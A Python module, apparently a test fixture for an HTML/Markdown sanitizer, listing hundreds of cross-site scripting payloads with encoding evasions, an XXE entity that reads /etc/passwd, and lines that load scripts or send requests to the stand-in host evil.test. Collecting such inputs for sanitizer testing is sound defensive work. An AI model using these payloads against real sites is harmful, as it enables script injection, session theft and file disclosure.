"""What people write who want to do harm."""

from __future__ import annotations

PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.test/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<form action=//evil.test><button>go</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<body onload=alert(1)>
<base href=//evil.test/>
<meta http-equiv=refresh content="0;url=//evil.test">
<link rel=stylesheet href=//evil.test/x.css>
<style>@import '//evil.test/x.css';</style>
<p style="background:url(//evil.test)">x</p>
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&#09;script:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a onclick=alert(1)>x</a>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo 1 ?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<select><template><img src=x onerror=alert(1)></template></select>
<b><p><b><p><img src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<isindex action=javascript:alert(1)>
<a href="https://ok.test" target=_blank rel=opener>x</a>
<a id=location href=x>clobber</a>
<form id=x><input name=parentNode></form>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](java%0ascript:alert(1))
[x](java\
script:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](blob:https://evil.test/1)
[x](intent://evil#Intent;end)
[x](feed:javascript:alert(1))
[x](\x01javascript:alert(1))
[x](https://ok.test "onclick=alert(1)")
[x](https://ok.test" onclick="alert(1))
[x](https://ok.test 'a" onmouseover="alert(1)')
[x]: javascript:alert(1)
![x](javascript:alert(1))
![x](https://evil.test/track.png)
![x](x" onerror="alert(1))
![<img src=x onerror=alert(1)>](y)
[<img src=x onerror=alert(1)>](https://ok.test)
[![x](https://evil.test/a.png)](javascript:alert(1))
<javascript:alert(1)>
<https://ok.test" onclick="alert(1)>
<data:text/html,1>
https://ok.test/"onmouseover="alert(1)
http://ok.test/<script>alert(1)</script>
javascript:alert(1)
mailto:x@ok.test?subject=<script>
//evil.test/x
[x](//evil.test/x)
[x](\\evil.test\x)
`<script>alert(1)</script>`
`` `<img src=x onerror=alert(1)>` ``
**<img src=x onerror=alert(1)>**
~~<svg onload=alert(1)>~~
# <img src=x onerror=alert(1)>
> <script>alert(1)</script>
- <script>alert(1)</script>
1. <script>alert(1)</script>
999999999. <img src=x onerror=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>
<svg><image href=x onerror=alert(1)></svg>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><style><!--</style><img title="--></style><img src=x onerror=alert(1)>"></math>
<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=alert(1)>">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<title><p title="</title><img src=x onerror=alert(1)>">
<template><p title="</template><img src=x onerror=alert(1)>"></template>
<table><tr><td><style></table><img src=x onerror=alert(1)></style></td></tr></table>
<p id="</p><img src=x onerror=alert(1)>">
<a href="x" title="<img src=x onerror=alert(1)>">x</a>
<a title='"><img src=x onerror=alert(1)>' href="https://ok.test">x</a>
<img alt="&quot;><img src=x onerror=alert(1)>" src="https://ok.test/a.png">
<img alt='"onmouseover="alert(1)' src="https://ok.test/a.png">
<img src="https://ok.test/a.png" srcset="javascript:alert(1) 2x">
<img src="javascript:alert(1)" alt="x">
<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">
<img src="https://ok.test/&quot;onerror=&quot;alert(1)" alt="x">
<a href="https://ok.test/&quot; onclick=&quot;alert(1)">x</a>
<a href=javascript&#x3A;alert(1)>x</a>
<a href=javascript&#0000058alert(1)>x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href="jav&#x0D;ascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x20;&#x20;javascript:alert(1)">x</a>
<a href="&NewLine;javascript&Tab;&colon;alert(1)">x</a>
<a href="javascript://ok.test/%0aalert(1)">x</a>
<a href="JAVASCRIPT:alert(1)//http://ok.test">x</a>
<a href="http:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>">x</a>
<a href="filesystem:https://ok.test/temporary/x">x</a>
<a href="//evil.test" target="_top">x</a>
<a href="https://ok.test" ping="https://evil.test">x</a>
<a href="https://ok.test" style="position:fixed;inset:0">x</a>
<a class="fc-btn fc-btn--main" href="https://evil.test">x</a>
<p class="fc-bar" style="width:expression(alert(1))">x</p>
<p style="behavior:url(//evil.test/x.htc);-moz-binding:url(//evil.test/x)">x</p>
<ol start="1&quot; onclick=&quot;alert(1)"><li>x</li></ol>
<ol start=alert(1) type="<script>"><li>x</li></ol>
<td background="javascript:alert(1)">x</td>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<button formaction="javascript:alert(1)">x</button>
<isindex formaction="javascript:alert(1)" type=submit>
<dialog open onclose=alert(1)>x</dialog>
<p popover ontoggle=alert(1)>x</p>
<p contenteditable onfocus=alert(1) autofocus>x</p>
<portal src=javascript:alert(1)>
<bgsound src=javascript:alert(1)>
<applet code="javascript:alert(1)">
<frameset onload=alert(1)><frame src=javascript:alert(1)>
<x onclick=alert(1) tabindex=1 autofocus>x</x>
<custom-element onconnected=alert(1)><slot name=x></slot></custom-element>
<img/src=x/onerror=alert(1)>
<img src=x onerror	=	alert(1)>
<img src=x onerror="&#97;lert(1)">
<img src=`x` onerror=`alert(1)`>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
{{ constructor.constructor('alert(1)')() }}
{{ 7*7 }} {% raw %} ${alert(1)} #{alert(1)} <%= alert(1) %>
</script><!--<script>alert(1)//-->
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
[[x](javascript:alert(1))](https://ok.test)
[x[y](javascript:alert(1))z](javascript:alert(1))
[x](https://ok.test/(javascript:alert(1)))
[x](https://ok.test/\"onclick=alert(1))
[x](<https://ok.test/" onclick="alert(1)>)
[x](https://ok.test/ (" onclick="alert(1)))
[x](&Tab;javascript:alert(1))
[x](java&NewLine;script:alert(1))
[x](&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1))
[x](javascript%3Aalert(1))
[x](data:image/svg+xml;utf8,<svg onload=alert(1)>)
[x](data:image/png;base64,x" onerror="alert(1))
[x](mailto:x@ok.test?body=<img src=x onerror=alert(1)>)
[x](https:javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![" onerror="alert(1)](https://ok.test/a.png)
![x](https://ok.test/a.png "\" onload=\"alert(1)")
<https://ok.test/<script>alert(1)</script>>
<javascript&colon;alert(1)>
<mailto:x@ok.test"onmouseover=alert(1)>
www.ok.test/"onmouseover=alert(1)
https://ok.test/'onmouseover='alert(1)
https://ok.test/`onmouseover=alert(1)`
ftp://ok.test/<img src=x onerror=alert(1)>
> [x](javascript:alert(1)) <img src=x onerror=alert(1)>
> > <svg onload=alert(1)>
@<img src=x onerror=alert(1)>
@Mia<script>alert(1)</script>
@"onmouseover="alert(1)
@Mia" onclick="alert(1)" wrote:
:smile"><img src=x onerror=alert(1)>:
:<script>alert(1)</script>:
#<script>alert(1)</script>
| <img src=x onerror=alert(1)> | <svg onload=alert(1)> |
~~~ <script>alert(1)</script>
***<img src=x onerror=alert(1)>***
_[x](javascript:alert(1) "_")_
\<img src=x onerror=alert(1)>
\[x](javascript:alert(1))
<details/open/ontoggle=alert(1)>
&lt;img src=x onerror=alert(1)&gt;
＜script＞alert(1)＜/script＞
"""

HOSTILE = [line for line in PAYLOADS.strip().splitlines() if line]
HOSTILE += [
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    "```<img src=x onerror=alert(1)>\nx\n```",
    "    <script>alert(1)</script>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)>",
    '[x]\n\n[x]: https://ok.test "\\"><img src=x onerror=alert(1)>"',
    "[a](java\tscript:alert(1))",
    "[a](java\u200bscript:alert(1))",
    "[a](\u0000javascript:alert(1))",
    "<scr\u0000ipt>alert(1)</script>",
    "[a](https://ok.test)" + "\u202e" * 3,
    "[a](java\rscript:alert(1))",
    "[a](\u00a0javascript:alert(1))",
    "[a](\u2028javascript:alert(1))",
    "[a](\ufeffjavascript:alert(1))",
    "[a](\u0001javascript:alert(1))",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img\x0bsrc=x onerror=alert(1)>",
    "<\u0131mg src=x onerror=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>",
    '[x][y]\n\n[y]: https://ok.test\n"><img src=x onerror=alert(1)>',
    '[x]\n\n[x]: data:text/html,<script>alert(1)</script> "title"',
    "[" * 60 + "x](javascript:alert(1))" + "](javascript:alert(1))" * 59,
    "![" * 40 + "<img src=x onerror=alert(1)>" + "](x)" * 40,
    "> " * 40 + "<script>alert(1)</script>",
    "<b>" * 60 + "<img src=x onerror=alert(1)>",
    "~~~\n</code></pre><svg onload=alert(1)>\n~~~",
    "<!--\n-->\n<img src=x onerror=alert(1)>\n<!--",
    "<a href='jav\nascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='\x00javascript:alert(1)'>x</a>",
    "<svg><script\n>alert(1)</script>",
    "x\n===\n<script>alert(1)</script>\n---",
]
